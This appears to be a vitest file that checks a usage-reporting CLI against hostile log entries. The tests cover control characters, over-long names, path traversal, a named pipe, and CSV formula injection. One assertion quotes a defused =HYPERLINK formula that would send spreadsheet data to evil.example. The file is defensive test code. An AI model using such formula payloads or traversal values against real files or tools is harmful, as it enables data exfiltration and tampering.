/** Logs as an attacker would write them: what they hold reaches no terminal, no spreadsheet and no file. */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { noTotals } from '../src/core/totals.ts';
import { createHistory, historyFile } from '../src/store/history.ts';
import { at } from './support/records.ts';
import { EVIL_NAMES, hostileLogs, projectFolder } from './support/hostile.ts';
import { assistant, logText } from './support/lines.ts';
import { temporaryFolder } from './support/temporary.ts';

const CLI = resolve(import.meta.dirname, '../dist/cli.cjs');
const AT = ['--at', '2026-11-20T12:00:00Z', '--time-zone', 'UTC'];
const LOGGED_AT = '2026-11-20T10:07:00.000Z';
const HARMFUL = /[\p{Cc}\p{Cf}\u2028\u2029]/u;
const LONGEST_LINE = 2000;

const TEXTS = [
  ['status'],
  ['status', '--line'],
  ['usage'],
  ...['model', 'project', 'session', 'day', 'hour'].map((by) => ['usage', '--by', by]),
  ['doctor'],
  ['calibration'],
  ['feed', 'status'],
  ['uninstall', '--dry-run'],
];
const JSONS = [
  ...TEXTS.filter(([command]) => command !== 'uninstall' && command !== 'status'),
  ['status'],
  ['export'],
];

/** Calls with a name to be told by. */
const named = (calls: readonly string[][]): [string, string[]][] =>
  calls.map((words) => [words.join(' '), words]);

let home = '';

function tidemark(...words: string[]): { status: number | null; stdout: string; stderr: string } {
  const { status, stdout, stderr } = spawnSync(process.execPath, [CLI, ...words], {
    env: { PATH: process.env['PATH'], HOME: home, TIDEMARK_HOME: join(home, 'state'), TZ: 'UTC' },
    encoding: 'utf8',
    timeout: 30_000,
  });
  return { status, stdout, stderr };
}

/** The cells of a table as RFC 4180 has it. */
function cellsOf(csv: string): string[] {
  return [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n)/g)].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );
}

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'tidemark-test-'));
  for (const [path, text] of Object.entries(hostileLogs(EVIL_NAMES, LOGGED_AT))) {
    mkdirSync(dirname(join(home, path)), { recursive: true });
    writeFileSync(join(home, path), text);
  }
});

afterAll(() => rmSync(home, { recursive: true, force: true }));

describe('a hostile log', () => {
  test.each(named(TEXTS))('reaches the terminal of "%s" as plain, short lines', (_call, words) => {
    const { status, stdout, stderr } = tidemark(...words, ...AT);
    expect([0, 10, 20]).toContain(status);
    const lines = `${stdout}\n${stderr}`.split('\n');
    expect(lines.filter((line) => HARMFUL.test(line))).toEqual([]);
    expect(lines.filter((line) => line.length > LONGEST_LINE)).toEqual([]);
  });

  test.each(named(JSONS))('reaches the JSON of "%s" as plain, short strings', (_call, words) => {
    const { stdout } = tidemark(...words, '--json', ...AT);
    const strings: string[] = [];
    JSON.parse(stdout, (key, value: unknown) => {
      strings.push(key, ...(typeof value === 'string' ? [value] : []));
      return value;
    });
    expect(strings.filter((text) => HARMFUL.test(text) || text.length > LONGEST_LINE)).toEqual([]);
  });

  test.each(named([['export'], ['export', '--by', 'day']]))(
    'makes no formula in the table of "%s"',
    (_call, words) => {
      const { stdout, status } = tidemark(...words, ...AT);
      expect(status).toBe(0);
      const cells = cellsOf(stdout);
      expect(cells.length).toBeGreaterThan(10 * Object.keys(EVIL_NAMES).length);
      expect(cells.filter((cell) => /(?:^|;)\s*[=+\-@]/.test(cell))).toEqual([]);
      expect(cells.filter((cell) => HARMFUL.test(cell) || cell.length > LONGEST_LINE)).toEqual([]);
      expect(cells).toContain(`'=HYPERLINK("https://evil.example/?"&A1,"open")`);
      expect(stdout.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    },
  );

  test('is counted all the same, and what can be no name is refused', () => {
    const { skipped } = (
      JSON.parse(tidemark('usage', '--json', ...AT).stdout) as {
        read: { skipped: Record<string, number> };
      }
    ).read;
    // The responses whose model, or whose id, has ten million letters.
    expect(skipped).toEqual({ incomplete: 2 });
    const { stdout } = tidemark('usage', '--by', 'model', '--json', ...AT);
    expect(stdout).toContain(JSON.stringify(EVIL_NAMES['markup']));
  });

  test('opens nothing that it names, and writes nowhere', () => {
    // Whoever opened a pipe to read it would wait until somebody writes.
    const pipe = join(home, 'pipe');
    expect(spawnSync('mkfifo', [pipe]).status).toBe(0);
    const folder = join(home, '.claude/projects', projectFolder(pipe));
    mkdirSync(folder, { recursive: true });
    writeFileSync(
      join(folder, 's.jsonl'),
      logText(assistant({ id: 'msg_pipe', at: LOGGED_AT, cwd: pipe, session: `../../${pipe}`, model: pipe })),
    );
    const before = new Set(readdirSync(home, { recursive: true, encoding: 'utf8' }));
    for (const words of [['status'], ['usage', '--by', 'project'], ['doctor'], ['export'], ['statusline']]) {
      expect(tidemark(...words, ...AT).status).not.toBeNull();
    }
    const after = readdirSync(home, { recursive: true, encoding: 'utf8' });
    expect(after.filter((name) => !before.has(name) && !/^state(?:\/|$)/.test(name))).toEqual([]);
  });

  test('gets into the history as a name and no more: every line there is one of its own', () => {
    const state = temporaryFolder();
    const nowMs = at('2026-11-20T12:00:00Z');
    const hourMs = at('2026-11-20T10:00:00Z');
    const names = Object.values(EVIL_NAMES).filter((name) => name.length < 4096);
    const history = createHistory(state);
    history.look(nowMs);
    const sums = () =>
      names.map((name) => {
        const project = history.numberOf(name);
        return { hourMs, account: null, project, model: name, totals: { ...noTotals(), events: 1 } };
      });
    expect(history.seal(sums, hourMs, hourMs + 3_600_000, nowMs)).toBe(true);
    const lines = readFileSync(historyFile(state), 'utf8').trimEnd().split('\n');
    expect(lines).toHaveLength(1 + names.length + 1);
    const again = createHistory(state);
    again.look(nowMs);
    expect(again.problems()).toEqual([]);
    const read = again.sums().map(({ project, model }) => [again.pathOf(project), model] as const);
    expect(new Set(read.map(([path]) => path))).toEqual(new Set(names));
    expect(read.every(([path, model]) => path === model)).toBe(true);
  });
});
